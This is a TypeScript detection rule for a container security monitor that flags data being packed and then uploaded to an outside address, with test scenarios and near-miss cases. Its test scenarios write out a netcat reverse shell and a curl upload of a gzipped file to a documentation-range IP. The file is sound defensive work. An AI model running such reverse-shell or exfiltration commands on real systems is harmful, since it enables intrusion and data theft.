import type { DetectionCase } from '../../model/detection-case.js';
import type { Process } from '../../model/process.js';
import { byTime, type Call, grouped } from '../calls.js';
import { commandedRows, levelBelow } from '../commanded.js';
import type { Draft } from '../draft.js';
import { programName, seconds } from '../lineage.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { isPacking, namesUpload, PACKER_FILES } from '../uploads.js';
import { amount, apart, command, contactEvidence, destination, processEvidence, related, span } from '../wording.js';

/** A call that carries data out of a container. */
interface Upload {
  readonly process: Process;
  readonly call: Call;
}

const SENT_BYTES = 65_536;

export const archiveUpload = defineRule({
  id: 'archive-upload',
  title: 'Data packed, then sent outside',
  description:
    'A container packs or dumps data (tar, zip, gzip, pg_dump, …), and within minutes a program there sends data to an address outside: more than ' +
    'it receives, or a file that its arguments name. That is how data leaves, and how backups are made: below a commanded shell it is ' +
    'high, elsewhere medium, and low for what a container does again and again or from its first minutes on.',
  level: 'high',
  stage: 'consequence',
  attack: ['T1048', 'T1560.001'],
  needs: ['connections'],
  options: {
    windowSeconds: { value: 600, description: 'Longest time from the start of the packing program to the call that carries the data.' },
    routine: { value: 3, description: 'Archives sent to one address by one program of a container, from which on it is its work.' },
  },
  falsePositives: ['Backups.', 'Builds that publish an archive.'],
  *run({ view, option, stories, calls }) {
    const commanded = commandedRows(stories);
    const uploads = uploadsOf(view, calls({ isExternal: true }));
    if (uploads.length === 0) return;
    const packers = grouped(packersOf(view), (process) => process.containerId);
    for (const alike of grouped(uploads, ({ process, call }) => `${process.containerId} ${programName(process)} ${call.ip}`).values()) {
      const packed = alike.flatMap(({ process, call }) => {
        const packer = packers.get(process.containerId)?.findLast((one) => isBefore(one, call, seconds(option('windowSeconds'))));
        return packer === undefined ? [] : [{ process, call, packer }];
      });
      // What somebody at a shell sent speaks for the rest.
      const first = packed.find(({ process }) => commanded.has(process.id)) ?? packed[0];
      if (first === undefined) continue;
      const isRoutine = packed.length >= option('routine') || first.process.late === undefined;
      const level = levelBelow(commanded, first.process.id, isRoutine ? 'low' : 'medium');
      yield { ...draft(view, first.packer, first.process, first.call), level, count: packed.length };
    }
  },
  hits: [
    scenario(
      'gzip, then curl, below a reverse shell',
      `
      container web
      0       node server.js
      1200      nc host 4444 -e /bin/sh
      1200.1      > tcp 203.0.113.9:4444
      1200.2      => /bin/sh
      1210        gzip -c /tmp/.cache.json
      1216        curl -s -T /tmp/.c.gz http://203.0.113.9:8443/u/c.gz
      1216.1        > tcp 203.0.113.9:8443
    `,
    ),
    scenario(
      'a renamed tool sends what was packed',
      `
      container web
      0       node server.js
      1200      sh -c "…"
      1200.1      tar czf /tmp/x.tgz /srv
      1220        /tmp/.u x
      1220.1        > tcp 203.0.113.9:443 sent 900000 received 500
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a backup is packed and copied, which is worth a look and no more',
      `
      container backup
      0       crond -f
      7200      bash /opt/backup.sh
      7201        tar czf /data.tgz /data
      7230        scp /data.tgz backup@vault:/srv/
      7230.1        > tcp 203.0.113.50:22
    `,
    ),
    scenario(
      'tools are fetched and unpacked',
      `
      container build
      0       bash build.sh
      5         curl -fsSLO https://get.example.org/tool.tgz
      5.1         > tcp 203.0.113.31:443 sent 400 received 9000000
      9         tar xzf tool.tgz
      12        curl -fsSL https://get.example.org/version
      12.1        > tcp 203.0.113.31:443 sent 300 received 20
    `,
    ),
  ],
});

/** By time. */
function uploadsOf(view: DetectionCase, calls: Iterable<Call>): readonly Upload[] {
  const uploads: Upload[] = [];
  for (const call of calls) {
    const outline = view.outline(call.processId);
    if (outline?.containerId === undefined) continue;
    const isMuch = call.bytesSent >= SENT_BYTES && call.bytesSent > call.bytesReceived;
    if (!isMuch && !namesUpload(programName(outline), outline.arguments ?? '')) continue;
    const process = view.process(call.processId);
    if (process !== undefined) uploads.push({ process, call });
  }
  return uploads.sort((a, b) => byTime(a.call, b.call));
}

function* packersOf(view: DetectionCase): Iterable<Process> {
  for (const process of view.processesNamed(PACKER_FILES)) {
    if (isPacking(programName(process), process.arguments ?? '')) yield process;
  }
}

function isBefore(packer: Process, call: Call, window: number): boolean {
  const atUs = packer.imageStartedAtUs;
  return atUs !== undefined && atUs <= call.atUs && call.atUs - atUs <= window && packer.id !== call.processId;
}

function draft(view: DetectionCase, packer: Process, process: Process, call: Call): Omit<Draft, 'level'> {
  const connection = view.connection(call.connectionId);
  const place = connection === undefined ? call.ip : destination(connection);
  const sent = call.bytesSent > 0 ? `, ${amount(call.bytesSent)} of it` : '';
  return {
    title: `${programName(packer)}, then ${command(process)} to ${place}`,
    why: `${command(packer)} (pid ${packer.pid}) packed data; ${apart(call.atUs - (packer.imageStartedAtUs ?? call.atUs))} later ${command(process)} (pid ${process.pid}) in the same container sent data to ${place}${sent}.`,
    process,
    ...span(packer.imageStartedAtUs, call.atUs, connection?.closedAtUs),
    connections: connection === undefined ? [] : [connection],
    related: [related(packer, 'child')],
    evidence: [
      ...processEvidence(packer),
      ...processEvidence(process),
      ...(connection === undefined ? [] : contactEvidence({ connection, process, atUs: call.atUs, isExternal: true })),
    ],
    members: [process.id, packer.id],
  };
}
